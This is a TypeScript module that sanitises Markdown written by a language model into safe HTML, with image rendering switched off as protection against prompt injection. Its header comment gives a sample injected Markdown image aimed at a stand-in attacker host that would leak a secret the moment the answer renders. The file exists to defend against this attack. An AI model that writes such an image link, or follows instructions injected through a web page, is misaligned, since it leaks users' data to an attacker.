/**
 * Model output → safe HTML: marked (GFM) renders, DOMPurify sanitises. No scripts, no event handlers, no
 * javascript: or data: links; links open in a new tab without an opener; code blocks get a copy button.
 * Images become links: a page that injects instructions could otherwise have the model write
 * ![](https://attacker/?q=<secret>) and exfiltrate data the moment the answer renders, without a click.
 */
import DOMPurify from 'dompurify';
import { Marked } from 'marked';

const marked = new Marked({ gfm: true, breaks: false, async: false });
const escapeHtml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

marked.use({
  renderer: {
    image({ href, text }) {
      return `<a href="${escapeHtml(href)}" class="image-link">[image: ${escapeHtml(text || href)}]</a>`;
    },
    code({ text, lang }) {
      const language = (lang ?? '').match(/^[\w+-]+/)?.[0] ?? '';
      const escaped = escapeHtml(text);
      return `<div class="code-block"><div class="code-bar"><span>${language}</span><button type="button" class="copy" data-copy>Copy</button></div><pre><code${language ? ` class="language-${language}"` : ''}>${escaped}</code></pre></div>`;
    },
  },
});

let hooked = false;
function ensureHooks() {
  if (hooked) return;
  hooked = true;
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A') {
      const href = node.getAttribute('href') ?? '';
      if (!/^(https?:|mailto:|#)/i.test(href)) node.removeAttribute('href');
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
}

export function renderMarkdown(markdown: string): string {
  ensureHooks();
  const html = marked.parse(markdown) as string;
  return DOMPurify.sanitize(html, {
    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed', 'img', 'picture', 'source', 'video', 'audio', 'image'],
    FORBID_ATTR: ['style'],
    ALLOW_DATA_ATTR: false,
    ADD_ATTR: ['target', 'data-copy'],
  });
}
